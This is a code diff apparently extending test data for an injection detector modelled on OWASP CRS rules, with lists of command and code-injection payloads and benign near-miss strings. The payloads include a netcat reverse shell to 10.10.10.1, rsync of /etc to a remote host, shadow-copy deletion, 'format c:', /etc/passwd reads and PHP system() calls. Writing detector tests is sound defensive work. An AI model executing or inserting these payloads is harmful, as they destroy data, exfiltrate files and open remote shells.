@@ -84,7 +84,10 @@ COMMANDS = {
     "crs words": [";rsync -a /etc/ x@10.0.0.9:", "|| bzip2 -d /tmp/x.bz2", "$(psql -c 'select 1')", ";iostat",
                   "& robocopy C:\\Users \\\\x\\s /E", "| VSSADMIN delete shadows /all /quiet",
                   "&& bcdedit /set {default} recoveryenabled No", "; Get-ChildItem -Path C:\\",
-                  "| Invoke-Command -ScriptBlock {x}", "\nSet-ExecutionPolicy -ExecutionPolicy Bypass"],
+                  "| Invoke-Command -ScriptBlock {x}", "\nSet-ExecutionPolicy -ExecutionPolicy Bypass",
+                  # English-word commands with command-line arguments after a separator; history; $SHELL
+                  "; patch -p1 < x.diff", "& format c: /q", "| where /r c:\\ *.txt", "!-1", "x;!!", "x;$SHELL",
+                  "`${BASH}`"],
     "split words": ["'i'p a", "/bin/ca't' /et*/passwd", '";\\n. shell nc 10.10.10.1 6666 -e sh\\n',
                     'reg add "HKLM\\System\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f'],
 }
@@ -112,7 +115,9 @@ COMMAND_NEAR_MISSES = [
     "~5 minutes", "~ 10", "${price}", "${user.name}", "rock'n'roll", "'cat' food", "don't 'go'",
     "ssh-agent is running", "reg add is how a script writes a key to the registry on each start",
     "net user growth was strong this year and more came later on",
-    "java is a language; rsync is a tool", "I use tmux and psql daily", "; Get well soon", "xcopy",
+    "java is a language; rsync is a tool", "; done", "| view", "x; view the page", "a|list|b",
+    "`man --recode`, but", "`man`'s default", "Hello!! World", "wow!-1", "$SHELL_NAME",
+    "I use tmux and psql daily", "; Get well soon", "xcopy",
     "the robocopy docs", "Get-ChildItem",
     "C++", "a+b=c", "user+tag@example.com", "Lunch; at noon", "we meet; at 5 pm \"sharp\"", "US$5 or 6$",
 ]
@@ -133,7 +138,11 @@ CODE_PAYLOADS = {
             # variables, PHP's data: wrapper
             "htmlspecialchars($x)", "strtolower(abc)", "get_class_methods($o)", "gzdecode /**/(x)", "json_encode($a);",
             "$GLOBALS", "$GLOBALS['x']", "$_COOKIE", "$HTTP_RAW_POST_DATA", "$http_response_header",
-            "data://text/plain;base64,PD9waHA=", "data:text/plain,<b>x</b>"],
+            "data://text/plain;base64,PD9waHA=", "data:text/plain,<b>x</b>", "bzip2://x",
+            # CRS 933210's split and indexed calls, reflection and file classes, include without parentheses, a
+            # value that ends by opening PHP
+            '(sys)"tem"(ls);', '{0}("ls")', "new ReflectionFunction('system')", "new SplFileObject('/etc/passwd')",
+            "require_once 'x.php';", "<?", "x=1 <?="],
     "node": ["console.info(1)", "console[\"log\"](1)", "while(-1);", "while(!!\"\");", "module.exports=x",
              "eval(String.fromCharCode(97))", "process.env", "process[\"env\"]", '{"0": "$7:Module:prototype"}',
              # CRS 934100's indicators; Ruby's command runners
@@ -167,7 +176,8 @@ CODE_NEAR_MISSES = [
     "`require('myModule2')`.", "the process. Then", "{% if user.is_admin %}", "a process [1] ran",
     "${count?c}", "${name?lower_case}", "${abc}",
     "htmlspecialchars() escapes markup", "Use json_encode() to", "strlen(s) in C", "sprintf(buf, x)",
-    "the $_SERVER array", "data:image/png;base64,iVBORw0KGgo=", "an IO popen call", "a process readme",
+    "the $_SERVER array", "data:image/png;base64,iVBORw0KGgo=", "f(x) 'a' (b)", "the new COM (port)",
+    "see {1} (below)", "a <? b", "an IO popen call", "a process readme",
 ]
 
 
